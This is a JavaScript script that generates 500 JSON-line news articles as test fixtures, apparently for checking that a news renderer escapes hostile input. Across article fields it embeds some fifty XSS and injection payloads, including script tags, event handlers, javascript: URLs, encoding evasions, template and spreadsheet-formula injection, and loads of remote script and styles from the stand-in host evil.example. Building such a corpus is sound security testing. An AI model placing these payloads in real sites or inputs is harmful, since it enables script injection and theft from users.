// 500 articles as a malicious outlet could send them, as JSON lines: every way to be taken for markup or script that is known to work
// somewhere (OWASP's filter evasion list and HTML5 security cheat sheet in kind, written anew), in title, text, outlet, address and id.
const run = 'globalThis.ran=1+(globalThis.ran||0)';
const ways = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img/src="x"/onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.${run.replaceAll('"', "'")}</script>">`,
  `<iframe src="javascript:${run}">`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<embed src="javascript:${run}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>`,
  `<math><mtext></p><img src=x onerror=${run}></math>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `"><script>${run}</script>`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</li></ul><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\${${run}} {{${run}}} {%raw%} #{${run}} <%= ${run} %>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:msgbox(1)`,
  `\u202e<script>${run}</script>\u2066`,
  `\ufeff<scr\u200bipt>${run}</scr\u200bipt>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<a href="javascript:${run}">read</a>`,
  `=HYPERLINK("http://evil.example","x") @SUM(1) +1 -1`,
  `__proto__ constructor toString [object Object]`,
];
const places = ['title', 'text', 'publisher', 'url', 'id', 'title and text', 'all', 'address', 'path', 'markup'];

let n = 0;
for (const place of places) {
  for (const way of ways) {
    const is = (name) => place === name || place === 'all' || (place === 'title and text' && (name === 'title' || name === 'text'));
    const day = `2025-${String(1 + (n % 12)).padStart(2, '0')}-${String(1 + (n % 28)).padStart(2, '0')}`;
    const article = {
      id: is('id') ? `${way} ${n}` : `hostile-${n}`,
      url: is('url') ? way : place === 'address' ? `https://example.org/${n}?q=${way}#${way}` : place === 'path' ? `javascript:${n};//${way}` : `https://example.org/${n}`,
      publisher: is('publisher') ? `Wire ${way}` : 'Example Wire',
      published: day,
      title: `Russia condemned Japan over drills${is('title') ? ` ${way}` : ''} ${n}`,
      text: `Russia condemned Japan on Tuesday over drill ${n}${is('text') ? ` and ${way}` : ''}. China's foreign minister met his Indian counterpart in Beijing${place === 'markup' ? `, ${way}, ` : ''} on Monday.`,
    };
    console.log(JSON.stringify(article));
    n += 1;
  }
}
